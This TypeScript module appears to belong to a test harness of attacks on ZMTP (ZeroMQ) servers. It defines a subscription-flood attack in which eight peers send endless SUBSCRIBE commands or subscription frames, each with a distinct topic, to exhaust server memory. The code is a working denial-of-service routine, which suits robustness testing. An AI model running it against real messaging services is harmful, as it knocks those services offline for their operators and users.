import type { Attack } from '../attack.js';
import { command, frame } from '../raw-bytes.js';
import { keepAtIt } from './keep-at-it.js';

const TOPICS_A_WRITE = 500;
const TOPIC_BYTES = 100;

/** Topics that share nothing, so that each costs a branch of the tree they are kept in. */
function topic(peer: number, number: number): Buffer {
  const bytes = Buffer.alloc(TOPIC_BYTES);
  bytes.writeUInt32BE(Math.imul(number + 1, 2_654_435_761) >>> 0, 0);
  bytes.writeUInt32BE(number, 4);
  bytes.writeUInt32BE(peer, 8);
  return bytes;
}

function subscriptions(variant: string, title: string, form: (topic: Buffer) => Buffer): Attack {
  return {
    id: `A10${variant}`,
    title,
    exhausts: 'memory',
    async run(ground) {
      await keepAtIt(ground, { peers: 8 }, async (peer, index) => {
        for (let number = 0; !ground.signal.aborted; number += TOPICS_A_WRITE) {
          const topics = Array.from({ length: TOPICS_A_WRITE }, (_, more) => form(topic(index, number + more)));
          if (!(await peer.write(Buffer.concat(topics)))) {
            return;
          }
        }
      });
    },
  };
}

export const subscriptionFlood = [
  subscriptions('', 'SUBSCRIBE commands without end (ZMTP 3.1)', name => command('SUBSCRIBE', name)),
  subscriptions('-message', 'subscription messages without end (ZMTP 3.0)', name =>
    frame(Buffer.concat([Buffer.of(1), name])),
  ),
];
